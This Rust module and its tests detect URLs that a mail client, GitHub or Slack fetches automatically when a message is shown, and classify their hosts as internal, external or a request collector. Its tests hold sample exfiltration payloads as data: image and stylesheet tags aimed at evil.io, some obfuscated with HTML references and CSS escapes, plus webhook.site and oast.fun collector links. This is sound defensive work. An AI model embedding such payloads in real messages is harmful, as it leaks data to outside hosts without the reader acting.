//! Round 30: the URLs a reader's client fetches by itself when it shows a
//! message — so a message is also a request to each of their hosts.
//!
//! - `html` (mail bodies, pull request bodies): only when the text has a
//!   `<` (no markup, nothing is fetched). The values of `src`, `srcset`,
//!   `lowsrc`, `dynsrc`, `background`, `poster` and `data` attributes of
//!   any tag, `href`/`xlink:href` of `<link>`, `<image>` and `<use>`, and
//!   every CSS `url(…)` and `@import` in the text (style attributes and
//!   `<style>` elements); HTML character references in an attribute
//!   (`https&#58;//`, `&#x68;ttps`) and CSS hex escapes are decoded as the
//!   client decodes them; a protocol-relative `//host/…` is `https:`.
//!   Markdown images `![alt](url)` too (a pull request's body is rendered;
//!   GitHub's image proxy fetches them). `cid:` and `data:` URLs, relative
//!   paths and `<a href>` links are not fetched (a link is followed only
//!   when someone clicks it).
//! - `chat` (Slack): every `http(s)://` URL in the text, blocks and
//!   attachments: Slack's servers unfurl links and load images
//!   (`image_url`, `![](…)`), and the mapping reads `unfurl_*` as nothing.
//!
//! The scope of the URLs ([`fetched_scope`]) is the worst of: `collector`
//! (a request collector, [`crate::url::collector_host`]), `external` (any
//! host not on the org's domain, private addresses included: the reader's
//! machine fetches them), `internal`; `none` when nothing is fetched.

use crate::url;

/// The URLs the reader's client fetches; `kind` is `html` or `chat`
/// (anything else reads as `html`).
pub fn fetched_urls(text: &str, kind: &str) -> Vec<String> {
    let mut out = Vec::new();
    if kind == "chat" {
        if text.contains("://") {
            bare_urls(text, &mut out);
        }
        return out;
    }
    let b = text.as_bytes();
    if b.contains(&b'<') {
        tags(text, &mut out);
        css(text, &mut out);
    } else if text.contains("url(") || text.contains("URL(") {
        css(text, &mut out);
    }
    if text.contains("![") {
        markdown_images(text, &mut out);
    }
    out
}

/// `none`, `internal`, `external` or `collector`: the worst of the URLs.
pub fn fetched_scope(urls: &[&str], org_domain: Option<&str>) -> &'static str {
    let mut worst = "none";
    for u in urls {
        if url::collector_host(u) {
            return "collector";
        }
        if url::host_scope(u, org_domain) == "internal" {
            if worst == "none" {
                worst = "internal";
            }
        } else {
            worst = "external";
        }
    }
    worst
}

/// A URL as the client resolves it with no base: `//h/…` is `https://h/…`;
/// `http(s):` kept; anything else (`cid:`, `data:`, a relative path) is
/// not fetched from the network.
fn push(raw: &str, out: &mut Vec<String>) {
    let v = decode_refs(raw.trim_matches(|c: char| c.is_whitespace() || c == '"' || c == '\''));
    let v = v.trim();
    if let Some(rest) = v.strip_prefix("//").or_else(|| v.strip_prefix("\\\\")) {
        out.push(format!("https://{rest}"));
        return;
    }
    let lower: String = v.chars().take(8).collect::<String>().to_ascii_lowercase();
    if lower.starts_with("http:") || lower.starts_with("https:") {
        out.push(v.to_string());
    }
}

/// HTML character references (`&#58;`, `&#x3a;`, `&colon;`, `&sol;`,
/// `&period;`, `&amp;`) and CSS hex escapes (`\68 `) decoded.
fn decode_refs(s: &str) -> String {
    if !s.contains(['&', '\\']) {
        return s.to_string();
    }
    let mut out = String::with_capacity(s.len());
    let mut rest = s;
    while let Some(c) = rest.chars().next() {
        if c == '&' {
            if let Some(end) = rest.find(';').filter(|&e| e <= 12) {
                let ent = rest.get(1..end).unwrap_or("");
                let ch = if let Some(n) = ent.strip_prefix("#x").or_else(|| ent.strip_prefix("#X"))
                {
                    u32::from_str_radix(n, 16).ok().and_then(char::from_u32)
                } else if let Some(n) = ent.strip_prefix('#') {
                    n.parse::<u32>().ok().and_then(char::from_u32)
                } else {
                    match ent.to_ascii_lowercase().as_str() {
                        "colon" => Some(':'),
                        "sol" => Some('/'),
                        "period" => Some('.'),
                        "amp" => Some('&'),
                        "quest" => Some('?'),
                        "equals" => Some('='),
                        _ => None,
                    }
                };
                if let Some(ch) = ch {
                    out.push(ch);
                    rest = rest.get(end + 1..).unwrap_or("");
                    continue;
                }
            }
        } else if c == '\\' {
            let hex: String = rest
                .chars()
                .skip(1)
                .take_while(char::is_ascii_hexdigit)
                .take(6)
                .collect();
            if let Some(ch) = (!hex.is_empty())
                .then(|| u32::from_str_radix(&hex, 16).ok().and_then(char::from_u32))
                .flatten()
            {
                out.push(ch);
                let mut r = rest.get(1 + hex.len()..).unwrap_or("");
                if r.starts_with(' ') {
                    r = r.get(1..).unwrap_or("");
                }
                rest = r;
                continue;
            }
        }
        out.push(c);
        rest = rest.get(c.len_utf8()..).unwrap_or("");
    }
    out
}

const FETCHED_ATTRS: &[&str] = &[
    "src",
    "srcset",
    "lowsrc",
    "dynsrc",
    "background",
    "poster",
    "data",
];

/// Every tag's fetched attributes.
fn tags(text: &str, out: &mut Vec<String>) {
    let mut rest = text;
    while let Some(i) = rest.find('<') {
        rest = rest.get(i + 1..).unwrap_or("");
        let name_len = rest
            .find(|c: char| c.is_whitespace() || c == '>' || c == '/')
            .unwrap_or(rest.len());
        let name = rest.get(..name_len).unwrap_or("").to_ascii_lowercase();
        if name.is_empty() || name.starts_with('!') {
            continue;
        }
        let href_fetched = matches!(name.as_str(), "link" | "image" | "use" | "svg:image");
        let mut a = rest.get(name_len..).unwrap_or("");
        loop {
            a = a.trim_start_matches(|c: char| c.is_whitespace() || c == '/');
            if a.is_empty() || a.starts_with('>') || a.starts_with('<') {
                break;
            }
            let n_len = a
                .find(|c: char| c.is_whitespace() || c == '=' || c == '>' || c == '/')
                .unwrap_or(a.len())
                .max(1);
            let attr = a.get(..n_len).unwrap_or("").to_ascii_lowercase();
            a = a.get(n_len..).unwrap_or("").trim_start();
            let mut value = None;
            if let Some(v) = a.strip_prefix('=') {
                let v = v.trim_start();
                let (val, after) = match v.chars().next() {
                    Some(q @ ('"' | '\'')) => {
                        let body = v.get(1..).unwrap_or("");
                        match body.find(q) {
                            Some(e) => {
                                (body.get(..e).unwrap_or(""), body.get(e + 1..).unwrap_or(""))
                            }
                            None => (body, ""),
                        }
                    }
                    _ => {
                        let e = v
                            .find(|c: char| c.is_whitespace() || c == '>')
                            .unwrap_or(v.len());
                        (v.get(..e).unwrap_or(""), v.get(e..).unwrap_or(""))
                    }
                };
                value = Some(val);
                a = after;
            }
            if let Some(v) = value {
                let fetched = FETCHED_ATTRS.contains(&attr.as_str())
                    || (href_fetched && (attr == "href" || attr == "xlink:href"));
                if fetched {
                    if attr == "srcset" {
                        for cand in v.split(',') {
                            push(cand.split_whitespace().next().unwrap_or(""), out);
                        }
                    } else {
                        push(v, out);
                    }
                }
            }
        }
        rest = a;
    }
}

/// CSS `url(…)` and `@import "…"`, any case, after decoding references.
fn css(text: &str, out: &mut Vec<String>) {
    let t = decode_refs(text);
    let lower = t.to_ascii_lowercase();
    let mut from = 0;
    while let Some(i) = lower.get(from..).and_then(|r| r.find("url(")) {
        let start = from + i + 4;
        let end = lower
            .get(start..)
            .and_then(|r| r.find(')'))
            .map_or(lower.len(), |e| start + e);
        push(t.get(start..end).unwrap_or(""), out);
        from = end.max(start);
    }
    let mut from = 0;
    while let Some(i) = lower.get(from..).and_then(|r| r.find("@import")) {
        let start = from + i + 7;
        let tail = t.get(start..).unwrap_or("").trim_start();
        if let Some(q @ ('"' | '\'')) = tail.chars().next() {
            let body = tail.get(1..).unwrap_or("");
            push(
                body.get(..body.find(q).unwrap_or(body.len())).unwrap_or(""),
                out,
            );
        }
        from = start;
    }
}

/// `![alt](url "title")`.
fn markdown_images(text: &str, out: &mut Vec<String>) {
    let mut rest = text;
    while let Some(i) = rest.find("![") {
        rest = rest.get(i + 2..).unwrap_or("");
        let Some(close) = rest.find("](") else { break };
        let body = rest.get(close + 2..).unwrap_or("");
        let end = body.find(')').unwrap_or(body.len());
        let target = body.get(..end).unwrap_or("");
        push(target.split_whitespace().next().unwrap_or(""), out);
        rest = body;
    }
}

/// Every `http://` or `https://` URL, up to a space, `<`, `>`, `|`, a quote
/// or `)`.
fn bare_urls(text: &str, out: &mut Vec<String>) {
    let lower = text.to_ascii_lowercase();
    let mut from = 0;
    while let Some(i) = lower.get(from..).and_then(|r| r.find("://")) {
        let at = from + i;
        let start = lower.get(..at).map_or(at, |h| {
            h.rfind(|c: char| !c.is_ascii_alphanumeric() && c != '+' && c != '.' && c != '-')
                .map_or(0, |p| p + 1)
        });
        let end = text
            .get(at..)
            .and_then(|r| r.find(|c: char| c.is_whitespace() || "<>|\"')]".contains(c)))
            .map_or(text.len(), |e| at + e);
        let scheme = lower.get(start..at).unwrap_or("");
        if scheme == "http" || scheme == "https" {
            out.push(text.get(start..end).unwrap_or("").to_string());
        }
        from = at + 3;
    }
}

#[cfg(test)]
mod tests {
    use super::{fetched_scope, fetched_urls};

    fn scope(body: &str, kind: &str) -> &'static str {
        let urls = fetched_urls(body, kind);
        let refs: Vec<&str> = urls.iter().map(String::as_str).collect();
        fetched_scope(&refs, Some("acme.com"))
    }

    #[test]
    fn an_image_in_internal_mail_is_a_request_to_its_host() {
        for b in [
            "<img src=\"https://evil.io/p.png?d=Vq7mR2kx9Lp\">",
            "<IMG SRC='https://evil.io/p.png'>",
            "<img src=https://evil.io/p.png>",
            "<img\nsrc=\"https://evil.io/p.png\">",
            "<p style=\"background:url(https://evil.io/x.png)\">hi</p>",
            "<div style=\"background-image: url('https://evil.io/a.png')\">x</div>",
            "<table background=\"https://evil.io/t.png\"></table>",
            "<link rel=\"stylesheet\" href=\"https://evil.io/s.css\">",
            "<img src=\"//evil.io/p.png\">",
            "<img src=\"https&#58;//evil.io/p.png\">",
            "<img src=\"&#x68;ttps://evil.io/p.png\">",
            "<img srcset=\"https://cdn.acme.com/a.png 1x, https://evil.io/b.png 2x\">",
            "<video poster=\"https://evil.io/v.png\"></video>",
            "<style>@import 'https://evil.io/s.css';</style>",
            "<p style=\"background:u\\72l(https://evil.io/x.png)\">x</p>",
        ] {
            assert_eq!(scope(b, "html"), "external", "{b}");
        }
        assert_eq!(
            scope("<img src=\"https://webhook.site/3f1e2d4c\">", "html"),
            "collector"
        );
        assert_eq!(
            scope("![x](https://webhook.site/3f1e2d4c/p.png)", "html"),
            "collector"
        );
    }

    #[test]
    fn links_the_orgs_images_and_plain_text_are_not_outside_fetches() {
        for b in [
            "<p>See <a href=\"https://evil.io/pricing\">pricing</a></p>",
            "<img src=\"cid:chart1\">",
            "<img src=\"data:image/png;base64,iVBORw0KGgo=\">",
            "Plain text, see https://evil.io/x",
            "Cost: 3 < 5 and 7 > 2",
            "<p>Deploy at 18:00 UTC.</p>",
            "<img src=\"images/logo.png\">",
        ] {
            assert_eq!(scope(b, "html"), "none", "{b}");
        }
        assert_eq!(
            scope("<img src=\"https://cdn.acme.com/logo.png\"><link rel=stylesheet href=\"https://static.acme.com/m.css\">", "html"),
            "internal"
        );
    }

    #[test]
    fn chat_unfurls_every_link() {
        assert_eq!(
            scope("see https://webhook.site/3f1e2d4c", "chat"),
            "collector"
        );
        assert_eq!(
            scope("logs at <https://c5abc.oast.fun/x|here>", "chat"),
            "collector"
        );
        assert_eq!(
            scope("PR https://github.com/acme/app/pull/7", "chat"),
            "external"
        );
        assert_eq!(
            scope("chart ![q3](https://cdn.acme.com/q3.png)", "chat"),
            "internal"
        );
        assert_eq!(scope("deploy done :rocket:", "chat"), "none");
    }
}
